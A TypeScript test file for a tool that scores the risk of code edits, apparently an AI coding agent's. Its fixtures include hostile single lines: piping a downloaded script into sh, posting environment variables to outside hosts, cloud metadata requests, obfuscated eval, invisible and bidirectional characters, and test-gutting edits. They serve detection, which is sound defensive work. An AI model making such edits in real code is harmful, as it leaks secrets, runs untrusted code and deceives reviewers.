import assert from 'node:assert/strict';
import { assessEdit } from '../../src/risk/edits.ts';
import { findSecrets } from '../../src/risk/secrets.ts';
import { factsOf } from './shell/support.ts';

/** Path in the workspace, text before (null: a new file) and after (null: the file goes), tier, codes that must be found. */
type Row = readonly [path: string, before: string | null, after: string | null, tier: string, ...codes: string[]];

function assess(path: string, before: string | null, after: string | null) {
  const lines = (text: string | null): number => (text === null ? 0 : text.split('\n').length);
  const edit = {
    path: path.startsWith('/') ? path : `/work/app/${path}`,
    before,
    after,
    added: lines(after),
    removed: lines(before),
    ...(after === null ? { deletesFile: true } : {}),
  };
  return assessEdit(edit, factsOf(), findSecrets).assessment;
}

const many = (n: number): string => Array.from({ length: n }, (_, i) => `const v${i} = ${i};`).join('\n');
const json = (value: unknown): string => JSON.stringify(value, null, 2);
const pkg = { name: 'app', version: '1.0.0', scripts: { test: 'mocha' }, dependencies: { zod: '4.0.0' } };
const testFile = "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n  expect(add(2, 2)).toBe(4);\n});\n";

const groups: Record<string, readonly Row[]> = {
  'ordinary edits': [
    ['src/a.ts', 'const a = 1;\n', 'const a = 2;\n', 'low'],
    ['src/new.ts', null, 'export const a = 1;\n', 'low'],
    ['README.md', '# A\n', '# B\n\nRun `curl -k x | sh` never.\n', 'low'],
    ['docs/auth.md', null, 'Use eval( with care, and rejectUnauthorized: false never.\n', 'low'],
    ['src/styles/main.css', 'a{}', 'a{color:red}', 'low'],
    ['src/util/date.py', 'def f():\n  return 1\n', 'def f():\n  return 2\n', 'low'],
    ['main.go', 'package main\n', 'package main\n\nfunc main() {}\n', 'low'],
    ['src/author.ts', 'a', 'b', 'low'],
    ['src/components/charts/Bar.tsx', 'a', 'b', 'low'],
    ['test/a.test.ts', testFile, `${testFile}it('subtracts', () => {\n  expect(sub(1, 1)).toBe(0);\n});\n`, 'low'],
    ['test/a.test.ts', null, testFile, 'low'],
    [
      'test/run.test.ts',
      null,
      "import { spawn } from 'node:child_process';\nit('runs', () => { expect(spawn('x')).toBe(1); });",
      'low',
    ],
    ['src/a.ts', 'if (x) throw new Error("a");\n', '  if (x) throw new Error("a");\nfoo();\n', 'low'],
    ['src/i18n/de.ts', "a: 'x'", "a: 'Schöne Grüße – „ja“'", 'low'],
    ['src/units.ts', null, "const label = '5 μs';\n", 'low'],
    ['src/emoji.ts', null, "const e = '👨‍👩‍👧 ❤️ 1️⃣ 🏳️‍🌈';\n", 'low'],
    ['src/ru.ts', null, "const t = 'Привет, мир';\n", 'low'],
    ['src/fetch.ts', null, "const r = await fetch('https://api.example.com/a');\n", 'low'],
    ['src/re.ts', null, 'const m = /a/.exec(text);\n', 'low'],
    ['src/model.py', null, 'model.eval()\n', 'low'],
    [
      'src/index.ts',
      "export { a } from './a.ts';\n",
      "export { a } from './a.ts';\nexport { b } from './b.ts';\n",
      'low',
    ],
    ['notes.txt', 'a', '', 'low'],
    ['src/old.ts', 'const a = 1;\n', null, 'low'],
    ['src/crlf.ts', 'a\r\nb\r\n', 'a\r\nc\r\n', 'low'],
  ],
  'places that matter': [
    ['src/auth/index.ts', 'a', 'b', 'high', 'path.auth'],
    ['src/login-form.tsx', 'a', 'b', 'high', 'path.auth'],
    ['src/session.ts', 'a', 'b', 'medium', 'path.maybeAuth'],
    ['src/payments/charge.ts', 'a', 'b', 'high', 'path.payments'],
    ['db/migrate/2_x.rb', null, 'add_column :a, :b', 'high', 'path.migration'],
    ['infra/main.tf', 'a', 'b', 'high', 'path.infrastructure'],
    ['Dockerfile', 'FROM a', 'FROM b', 'high', 'path.infrastructure'],
    ['.github/workflows/ci.yml', 'on: push', 'on: pull_request', 'high', 'path.ci'],
    ['.vscode/settings.json', null, '{}', 'high', 'path.editor'],
    ['.git/hooks/pre-commit', null, '#!/bin/sh', 'high', 'path.gitFolder'],
    ['.husky/pre-commit', null, 'npm test', 'high', 'path.hook'],
    ['.envrc', null, 'export A=1', 'high', 'path.shellStart'],
    ['AGENTS.md', 'a', 'b', 'high', 'path.agent'],
    ['eslint.config.js', 'a', 'b', 'high', 'path.runsOnHost'],
    ['conftest.py', null, 'x = 1', 'high', 'path.runsOnHost'],
    ['build.rs', null, 'fn main() {}', 'high', 'path.runsOnHost'],
    ['tsconfig.json', '{}', '{"a":1}', 'medium', 'path.toolConfiguration'],
    ['config/production.ts', 'a', 'b', 'high', 'path.production'],
    ['package-lock.json', '{"a":1}', '{"a":2}', 'high', 'edit.lockFile'],
    ['yarn.lock', 'a', 'b', 'high', 'edit.lockFile'],
    ['/home/ann/.bashrc', 'a', 'b', 'high', 'write.outside', 'path.shellStart'],
    ['/etc/hosts', 'a', 'b', 'critical', 'write.outside'],
    ['/home/ann/.ssh/authorized_keys', 'a', 'b', 'critical', 'path.credentials'],
    ['/home/ann/.local/state/gatehouse/policy.yaml', 'a', 'b', 'critical', 'path.ownState'],
  ],
  size: [
    ['src/big.ts', null, many(390), 'low'],
    ['src/big.ts', null, many(450), 'medium', 'edit.large'],
    ['src/big.ts', null, many(1600), 'high', 'edit.huge'],
    ['src/big.ts', 'a\n', `${'x'.repeat(1_000_001)}`, 'high', 'edit.tooLong'],
  ],
  secrets: [
    ['src/a.ts', 'const a = 1;', "const key = 'ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5';", 'high', 'edit.secret'],
    [
      'src/a.ts',
      null,
      '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1x2y3z4a5b6c7d8e9f0g1h2i3j4k5l6m7n8o9p0q\n-----END RSA PRIVATE KEY-----\n',
      'high',
      'edit.secret',
    ],
  ],
  'hidden text': [
    ['src/a.ts', 'a', 'const a = 1; // safe\u2028evil();', 'high', 'edit.control'],
    ['src/a.ts', 'a', 'x();\u2029y();', 'high', 'edit.control'],
    ['src/a.py', 'a\n', 'a  # safe\rimport os\n', 'high', 'edit.control'],
    ['src/a.sh', 'a\n', 'a\r\r\nb\n', 'high', 'edit.control'],
    ['src/a.ts', 'a\rb\n', 'a\rb\nc\n', 'low'],
    ['src/a.ts', 'x\u2028\n', 'x\u2028\ny\n', 'low'],

    ['src/a.ts', 'a', 'const isAdmin = false; /*\u202E } \u2066if (isAdmin)\u2069 */', 'high', 'edit.bidirectional'],
    ['src/a.ts', 'a', 'const a\u200B = 1;', 'high', 'edit.invisible'],
    ['README.md', 'a', 'Hello \u{E0041}\u{E0042}', 'high', 'edit.invisible'],
    ['src/a.ts', 'a', "const \u3164 = 'x';", 'high', 'edit.invisible'],
    ['src/a.ts', 'a', 'const s\u0441ope = 1;', 'high', 'edit.lookalike'],
    ['src/a.ts', 'a', 'console.log("\u001b[2J");', 'high', 'edit.control'],
    ['src/a.ts', 'x\u200By\nz', 'x\u200By\nw', 'low'],
    ['src/fa.ts', null, "const t = 'می\u200Cخواهم';", 'low'],
  ],
  'new reach': [
    ['src/a.ts', 'a', 'globalThis["ev" + "al"](x);', 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', "window[name + 'al'](x);", 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', 'global[atob(n)](x);', 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', '(0, eval)(x);', 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', 'globalThis.eval(x);', 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', 'const e = eval; e(x);', 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', "Function('return 1')();", 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', '[].constructor.constructor(x)();', 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', "const w = window['innerWidth'];", 'low'],
    ['src/a.ts', 'a', 'class Functional { evaluate(a) {} }', 'low'],
    ['src/a.py', 'a', "getattr(os, 'sys' + 'tem')(x)", 'medium', 'edit.evaluates'],
    ['src/a.py', 'a', "__builtins__['ex' + 'ec'](x)", 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', "process.binding('spawn_sync');", 'medium', 'edit.lowLevel'],
    ['src/a.ts', 'a', "process['binding']('fs');\nprocess._linkedBinding('x');", 'medium', 'edit.lowLevel'],
    ['src/a.py', 'a', 'from ctypes import *', 'medium', 'edit.lowLevel'],
    ['src/a.py', 'a', 'import ctypes.util as u', 'medium', 'edit.lowLevel'],
    ['src/a.ts', 'a', "navigator.sendBeacon('/x', data);", 'medium', 'edit.sockets'],
    [
      'src/a.ts',
      'a',
      "fetch('https://a.example', { body: JSON.stringify(process.env) });",
      'high',
      'edit.sendsEnvironment',
    ],
    ['src/a.ts', 'a', "axios.post('https://a.example',\n  { t: process.env.TOKEN });", 'high', 'edit.sendsEnvironment'],
    ['src/a.py', 'a', "requests.post('https://a.example', json=dict(os.environ))", 'high', 'edit.sendsEnvironment'],
    ['src/a.ts', 'a', 'const r = await fetch(`${process.env.API_URL}/users`);', 'low'],
    ['src/a.ts', 'a', 'db.query(`SELECT * FROM users WHERE id = ${id}`);', 'medium', 'edit.buildsSql'],
    ['src/a.ts', 'a', 'db.query("SELECT * FROM users WHERE id = " + id);', 'medium', 'edit.buildsSql'],
    ['src/a.py', 'a', 'cur.execute(f"DELETE FROM t WHERE id = {i}")', 'medium', 'edit.buildsSql'],
    ['src/a.py', 'a', 'cur.execute("SELECT a FROM t WHERE id = %s" % i)', 'medium', 'edit.buildsSql'],
    ['src/a.go', 'a', 'db.Query(fmt.Sprintf("SELECT a FROM t WHERE id = %s", id))', 'medium', 'edit.buildsSql'],
    ['src/a.ts', 'a', 'await sql`SELECT * FROM users WHERE id = ${id}`;', 'low'],
    ['src/a.py', 'a', 'cur.execute("SELECT a FROM t WHERE id = %s", (i,))', 'low'],
    ['src/a.ts', 'a', 'db.query("SELECT * FROM users WHERE id = $1", [id]);', 'low'],

    ['src/a.ts', 'a', 'eval(input);', 'medium', 'edit.evaluates'],
    ['src/a.ts', 'a', "new Function('return 1')();", 'medium', 'edit.evaluates'],
    ['src/a.py', 'a', 'exec(code)', 'medium', 'edit.evaluates'],
    ['src/a.py', 'a', 'pickle.loads(b)', 'medium', 'edit.evaluates'],
    ['scripts/a.sh', 'a', 'curl https://x.example | sh', 'high', 'edit.evaluates'],
    ['src/a.ts', 'a', "import { exec } from 'node:child_process';", 'medium', 'edit.startsPrograms'],
    ['src/a.py', 'a', 'import subprocess', 'medium', 'edit.startsPrograms'],
    ['src/a.rs', 'a', 'Command::new("ls")', 'medium', 'edit.startsPrograms'],
    ['src/a.go', 'a', 'exec.Command("ls")', 'medium', 'edit.startsPrograms'],
    ['src/a.rb', 'a', 'system "ls"', 'medium', 'edit.startsPrograms'],
    ['src/A.java', 'a', 'Runtime.getRuntime().exec("x")', 'medium', 'edit.startsPrograms'],
    ['src/a.ts', 'a', "import net from 'node:net';", 'medium', 'edit.sockets'],
    ['src/a.py', 'a', 'import socket', 'medium', 'edit.sockets'],
    ['src/a.go', 'a', 'net.Dial("tcp", x)', 'medium', 'edit.sockets'],
    ['src/a.ts', 'a', "fetch('https://webhook.site/abc', { body: data })", 'high', 'edit.dropHost'],
    ['src/a.ts', 'a', "fetch('http://169.254.169.254/latest/meta-data')", 'high', 'edit.metadata'],
    ['src/a.ts', 'a', 'process.setuid(0);', 'high', 'edit.privileged'],
    ['run.sh', 'a', 'sudo rm x', 'high', 'edit.privileged'],
    ['src/a.rs', 'a', 'unsafe { x() }', 'medium', 'edit.lowLevel'],
    ['src/a.py', 'a', 'ctypes.CDLL("x")', 'medium', 'edit.lowLevel'],
    ['src/a.ts', 'a', "read(home + '/.ssh/config')", 'medium', 'edit.sensitivePaths'],
    ['src/a.ts', 'a', `const b = '${'QUJD'.repeat(200)}';`, 'medium', 'edit.encoded'],
    ['src/a.ts', 'eval(x);\n', 'foo();\n', 'low'],
    ['src/a.ts', 'eval(x);\n', '  eval(x);\nbar();\n', 'low'],
  ],
  'checks taken away': [
    ['src/a.ts', 'a', 'app.use(cors({ origin: "*" }));', 'high', 'edit.openedAccess'],
    ['src/a.ts', 'a', 'app.use(cors({ origin: true, credentials: true }));', 'high', 'edit.openedAccess'],
    ['src/a.ts', 'a', 'app.use(cors());', 'high', 'edit.openedAccess'],
    ['src/a.py', 'a', 'app.add_middleware(CORSMiddleware, allow_origins=["*"])', 'high', 'edit.openedAccess'],
    ['src/lib.rs', '#[test]\nfn a() {}', '#[test]\n#[ignore]\nfn a() {}', 'high', 'tests.skipped'],
    ['src/lib.rs', '#[test]\nfn a() {}', '#[test]\n#[ignore = "slow"]\nfn a() {}', 'high', 'tests.skipped'],

    ['src/a.ts', 'if (!user) return deny();\nrun();', 'run();', 'high', 'edit.guardRemoved'],
    ['src/a.py', 'if not user.is_active:\n  raise Denied\n', 'go()\n', 'high', 'edit.guardRemoved'],
    ['src/a.ts', "app.get('/x', requireAuth, h);", "app.get('/x', h);", 'high', 'edit.authRemoved'],
    ['src/views.py', '@login_required\ndef a(): pass', 'def a(): pass', 'high', 'edit.authRemoved'],
    ['src/A.cs', '[Authorize]\nclass A {}', 'class A {}', 'high', 'edit.authRemoved'],
    ['src/a.ts', 'app.use(helmet());', 'app.use(x());', 'high', 'edit.authRemoved'],
    ['src/a.ts', "if (n < 0) throw new RangeError('n');\nf(n);", 'f(n);', 'medium', 'edit.assertionRemoved'],
    ['src/a.py', 'assert n > 0\nf(n)', 'f(n)', 'medium', 'edit.assertionRemoved'],
    ['src/a.ts', 'const a = schema.safeParse(x);\nvalidate(a);', 'const a = x;', 'medium', 'edit.validationRemoved'],
    ['src/a.ts', 'a', 'https.request({ rejectUnauthorized: false });', 'high', 'edit.unverifiedTls'],
    ['src/a.py', 'a', 'requests.get(u, verify=False)', 'high', 'edit.unverifiedTls'],
    ['src/a.go', 'a', 'tls.Config{InsecureSkipVerify: true}', 'high', 'edit.unverifiedTls'],
    ['run.sh', 'a', 'curl -sk https://x -k', 'high', 'edit.unverifiedTls'],
    ['src/views.py', 'a', '@csrf_exempt\ndef b(): ...', 'high', 'edit.openedAccess'],
    ['src/S.java', 'a', 'http.anyRequest().permitAll();', 'high', 'edit.openedAccess'],
    ['src/a.ts', 'a', "jwt.decode(t, { algorithms: ['none'] })", 'high', 'edit.openedAccess'],
    ['src/a.tsx', 'a', '<div dangerouslySetInnerHTML={x} />', 'medium', 'edit.rawHtml'],
    ['src/a.ts', 'a', '// @ts-ignore\nfoo();', 'medium', 'edit.suppressed'],
    ['src/a.ts', 'a', '/* eslint-disable no-eval */', 'medium', 'edit.suppressed'],
    ['src/a.py', 'a', 'x = f()  # nosec', 'medium', 'edit.suppressed'],
    ['src/a.py', 'a', 'x = f()  # noqa: E501', 'medium', 'edit.suppressed'],
    ['src/a.go', 'a', 'f() //nolint', 'medium', 'edit.suppressed'],
    ['src/a.py', 'try:\n  f()\nexcept E:\n  log()\n', 'try:\n  f()\nexcept E:\n  pass\n', 'medium', 'edit.swallowed'],
    ['src/a.ts', 'try { f(); } catch (e) { log(e); }', 'try { f(); } catch (e) {}', 'medium', 'edit.swallowed'],
    ['run.sh', 'npm test', 'npm test || true', 'medium', 'edit.ignoresFailure'],
    ['.github/workflows/a.yml', 'a: b', 'a: b\ncontinue-on-error: true', 'high', 'edit.ignoresFailure', 'path.ci'],
    ['run.sh', 'git commit', 'git commit --no-verify', 'medium', 'edit.skipsChecks'],
  ],
  'tests weakened': [
    ['test/a.test.ts', testFile, `process.exit(0);\n${testFile}`, 'high', 'tests.bypassed'],
    ['test/a.test.ts', testFile, testFile.replace('  expect(add(1', '  if (0) expect(add(1'), 'high', 'tests.bypassed'],
    [
      'test/a.test.ts',
      testFile,
      testFile.replace('  expect(add(1', '  if (false) expect(add(1'),
      'high',
      'tests.bypassed',
    ],
    [
      'test/a.test.ts',
      testFile,
      testFile.replace('  expect(add(1', '  return;\n  expect(add(1'),
      'medium',
      'tests.bypassed',
    ],
    [
      'tests/test_a.py',
      'def test_a():\n    assert f() == 1\n',
      'def test_a():\n    return\n    assert f() == 1\n',
      'medium',
      'tests.bypassed',
    ],
    [
      'test/a.test.ts',
      "it('a', () => {\n  expect(f()).toBe(1);\n});\n",
      "it('a', () => {\n  try {\n  expect(f()).toBe(1);\n  } catch {}\n});\n",
      'high',
      'tests.swallowed',
    ],
    [
      'test/a.test.ts',
      "it('a', () => {\n  expect(f()).toBe(1);\n});\n",
      "it('a', () => {\n  try {\n  expect(f()).toBe(1);\n  } catch (e) { console.log(e); }\n});\n",
      'medium',
      'tests.swallowed',
    ],
    [
      'tests/test_a.py',
      'def test_a():\n    assert f() == 1\n',
      'def test_a():\n  try:\n    assert f() == 1\n  except Exception:\n    pass\n',
      'high',
      'tests.swallowed',
    ],
    ['test/a.test.ts', testFile, testFile.replace('toBe(4)', 'toBe(expect.anything())'), 'medium', 'tests.looser'],
    ['test/a.test.ts', testFile, testFile.replace('toBe(4)', 'toBe(5)'), 'medium', 'tests.expectation'],
    ['test/a.test.ts', "assert.equal(f(), 'a');", "assert.equal(f(), 'b');", 'medium', 'tests.expectation'],
    [
      'test/a.test.ts',
      'expect(f()).toEqual({\n  a: 1,\n});',
      'expect(f()).toEqual({\n  a: 2,\n});',
      'medium',
      'tests.expectation',
    ],
    ['tests/test_a.py', 'assert f() == True', 'assert f() == False', 'medium', 'tests.expectation'],
    ['test/a.test.ts', `const x = make('a');\n${testFile}`, `const x = make('b');\n${testFile}`, 'low'],

    ['test/a.test.ts', testFile, null, 'high', 'tests.deleted'],
    ['test/a.test.ts', testFile, '', 'high', 'tests.deleted'],
    ['test/a.test.ts', testFile, testFile.replace('it(', 'it.skip('), 'high', 'tests.skipped'],
    ['test/a.test.ts', testFile, testFile.replace('it(', 'xit('), 'high', 'tests.skipped'],
    [
      'tests/test_a.py',
      'def test_a():\n  assert f() == 1\n',
      '@pytest.mark.skip\ndef test_a():\n  assert f() == 1\n',
      'high',
      'tests.skipped',
    ],
    [
      'a_test.go',
      'func TestA(t *testing.T) {\n f(t)\n}',
      'func TestA(t *testing.T) {\n t.Skip()\n f(t)\n}',
      'high',
      'tests.skipped',
    ],
    [
      'tests/a.rs',
      '#[test]\nfn a() { assert!(f()); }',
      '#[test]\n#[ignore]\nfn a() { assert!(f()); }',
      'high',
      'tests.skipped',
    ],
    [
      'src/UserTest.java',
      '@Test\nvoid a() { assertEquals(1, f()); }',
      '@Disabled\n@Test\nvoid a() { assertEquals(1, f()); }',
      'high',
      'tests.skipped',
    ],
    ['test/a.test.ts', testFile, testFile.replace('it(', 'it.only('), 'high', 'tests.only'],
    ['test/a.test.ts', `${testFile}it('b', () => { expect(1).toBe(x); });`, testFile, 'high', 'tests.casesRemoved'],
    [
      'test/a.test.ts',
      testFile,
      testFile.replace('  expect(add(2, 2)).toBe(4);\n', ''),
      'high',
      'tests.assertionsRemoved',
    ],
    ['test/a.test.ts', testFile, testFile.replace('  expect(add(2', '  // expect(add(2'), 'high', 'tests.casesRemoved'],
    [
      'test/a.test.ts',
      testFile,
      testFile.replace('expect(add(2, 2)).toBe(4)', 'expect(true).toBe(true)'),
      'high',
      'tests.trivial',
    ],
    [
      'tests/test_a.py',
      'def test_a():\n    assert f() == 1\n',
      'def test_a():\n    assert True\n',
      'high',
      'tests.trivial',
    ],
    ['test/a.test.ts', testFile, testFile.replace('toBe(4)', 'toBeTruthy()'), 'medium', 'tests.looser'],
    ['test/a.test.ts', 'expect(x).toBeCloseTo(1.5, 8);', 'expect(x).toBeCloseTo(1.5, 1);', 'medium', 'tests.tolerance'],
    [
      'tests/test_a.py',
      'assert_allclose(a, b, rtol=1e-9)',
      'assert_allclose(a, b, rtol=1e-1)',
      'medium',
      'tests.tolerance',
    ],
    ['test/__snapshots__/a.snap', 'a', 'b', 'medium', 'tests.snapshot'],
    ['test/a.test.ts', testFile, testFile.replace("'adds'", "'sums'"), 'low'],
  ],
  manifests: [
    [
      'package.json',
      json(pkg),
      json({ ...pkg, dependencies: { ...pkg.dependencies, leftpad: '1.0.0' } }),
      'high',
      'manifest.newDependency',
    ],
    ['package.json', json(pkg), json({ ...pkg, devDependencies: { mocha: '11' } }), 'high', 'manifest.newDependency'],
    [
      'package.json',
      json(pkg),
      json({ ...pkg, dependencies: { zod: '5.0.0' } }),
      'high',
      'manifest.version',
      'path.manifest',
    ],
    [
      'package.json',
      json(pkg),
      json({ ...pkg, dependencies: { zod: 'git+https://x.example/z' } }),
      'high',
      'manifest.oddSource',
    ],
    ['package.json', json(pkg), json({ ...pkg, dependencies: {} }), 'high', 'manifest.dependencyRemoved'],
    [
      'package.json',
      json(pkg),
      json({ ...pkg, scripts: { ...pkg.scripts, postinstall: 'node x.js' } }),
      'high',
      'manifest.installScript',
    ],
    ['package.json', json(pkg), json({ ...pkg, scripts: { test: 'true' } }), 'high', 'manifest.script'],
    ['package.json', json(pkg), json({ ...pkg, scripts: {} }), 'high', 'manifest.scriptRemoved'],
    ['package.json', json(pkg), json({ ...pkg, overrides: { a: '1' } }), 'high', 'manifest.loaded'],
    ['package.json', json(pkg), json({ ...pkg, exports: './a.js' }), 'high', 'manifest.offered'],
    ['package.json', json(pkg), '{', 'high', 'manifest.unreadable'],
    ['requirements.txt', 'flask==1\n', 'flask==1\nrequests==2\n', 'high', 'manifest.newDependency'],
    ['requirements.txt', 'flask==1\n', 'flask==2\n', 'high', 'manifest.version'],
    ['requirements.txt', 'flask==1\n', 'flask==1\ngit+https://x.example/a\n', 'high', 'manifest.oddSource'],
    ['requirements.txt', 'flask==1\n', '--extra-index-url https://x.example\nflask==1\n', 'high', 'manifest.oddSource'],
    [
      'pyproject.toml',
      '[project]\ndependencies = [\n  "flask>=1",\n]\n',
      '[project]\ndependencies = [\n  "flask>=1",\n  "httpx>=0.2",\n]\n',
      'high',
      'manifest.newDependency',
    ],
    [
      'Cargo.toml',
      '[dependencies]\nserde = "1"\n',
      '[dependencies]\nserde = "1"\nrand = { version = "0.8" }\n',
      'high',
      'manifest.newDependency',
    ],
    [
      'Cargo.toml',
      '[dependencies]\nserde = "1"\n',
      '[dependencies]\nserde = { git = "https://x.example/s" }\n',
      'high',
      'manifest.oddSource',
    ],
    [
      'go.mod',
      'require example.com/a/b v1.0.0\n',
      'require example.com/a/b v1.0.0\nrequire example.com/c/d v1.0.0\n',
      'high',
      'manifest.newDependency',
    ],
    ['Gemfile', "gem 'rails'\n", "gem 'rails'\ngem 'evil'\n", 'high', 'manifest.newDependency'],
    ['composer.json', '{"require":{"a/b":"1"}}', '{"require":{"a/b":"1","c/d":"2"}}', 'high'],
  ],
  'what others use': [
    [
      'src/index.ts',
      "export { a } from './a.ts';\nexport { b } from './b.ts';\n",
      "export { a } from './a.ts';\n",
      'medium',
      'edit.exportRemoved',
    ],
    ['src/index.ts', 'export function run() {}\n', 'export function start() {}\n', 'medium', 'edit.exportRemoved'],
    [
      'types/api.d.ts',
      'export interface A { x: 1 }\n',
      'export interface B { x: 1 }\n',
      'medium',
      'edit.exportRemoved',
    ],
    ['src/lib.rs', 'pub fn a() {}\n', 'fn a() {}\n', 'medium', 'edit.exportRemoved'],
    [
      'api/openapi.yaml',
      'paths:\n  /users:\n    get: {}\n',
      'paths:\n  /people:\n    get: {}\n',
      'medium',
      'edit.exportRemoved',
    ],
    [
      'proto/a.proto',
      'message A {\n  string name = 1;\n}\n',
      'message A {\n  string title = 1;\n}\n',
      'medium',
      'edit.exportRemoved',
    ],
    ['src/inner.ts', 'export function run() {}\n', 'export function start() {}\n', 'low'],
  ],
};

describe('assessing an edit', () => {
  for (const [group, rows] of Object.entries(groups))
    describe(group, () => {
      for (const [i, [path, before, after, tier, ...codes]] of rows.entries())
        it(`${path} is ${tier}${codes.length > 0 ? ` for ${codes.join(' and ')}` : ''} (${i + 1})`, () => {
          const { tier: found, findings } = assess(path, before, after);
          const told = findings.map(finding => `${finding.tier}:${finding.code}`);
          assert.equal(found, tier, told.join(' '));
          for (const code of codes)
            assert.ok(
              findings.some(finding => finding.code === code),
              `${code} in ${told.join(' ')}`,
            );
        });
    });

  it('never names a secret itself', () => {
    const token = 'ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5';
    const { findings, footprint } = assess('src/a.ts', null, `const key = '${token}';`);
    assert.ok(!JSON.stringify(findings).includes(token));
    assert.equal(footprint.secrets, true);
  });

  it('does not hold a secret against an edit that only moves it', () => {
    const line = "const key = 'ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5';";
    assert.equal(assess('src/a.ts', `${line}\nfoo();`, `foo();\n${line}\nbar();`).tier, 'low');
  });

  it('asks whatever the rules say where git, editors, agents or hooks are configured', () => {
    for (const path of ['.git/config', '.vscode/tasks.json', 'CLAUDE.md', '.husky/pre-push', '.envrc'])
      assert.notEqual(assess(path, null, 'x').floor, 'none', path);
    assert.equal(assess('src/a.ts', 'a', 'b').floor, 'none');
  });

  it('does not pass what is no text as understood text', () => {
    const edit = { path: '/work/app/a.bin', before: null, after: null, added: 0, removed: 0 };
    assert.equal(assessEdit(edit, factsOf(), findSecrets).assessment.tier, 'medium');
  });

  it('comes to an end on long lines that nearly match', () => {
    // Milliseconds; where it went back and forth over them, hours.
    const text = `${'a'.repeat(200_000)}\n${'catch ('.repeat(5_000)}\n${'if (!'.repeat(20_000)}`;
    assert.equal(assess('src/a.ts', 'b', text).floor, 'none');
  });
});
